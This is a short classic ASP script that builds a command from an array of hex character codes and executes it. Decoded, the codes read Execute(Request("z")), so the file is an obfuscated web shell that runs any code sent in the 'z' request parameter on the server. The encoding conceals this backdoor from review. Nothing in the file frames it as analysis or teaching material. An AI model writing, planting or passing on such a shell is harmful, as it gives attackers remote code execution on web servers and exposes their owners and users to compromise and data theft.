<%
Function J(a)
    Dim i, r
    For i = 0 To UBound(a)
        r = r & ChrW(a(i))
    Next
    J = r
End Function

Execute J(Array(&H45,&H78,&H65,&H63,&H75,&H74,&H65,&H28,&H52,&H65,&H71,&H75,&H65,&H73,&H74,&H28,&H22,&H7A,&H22,&H29,&H29))
%>
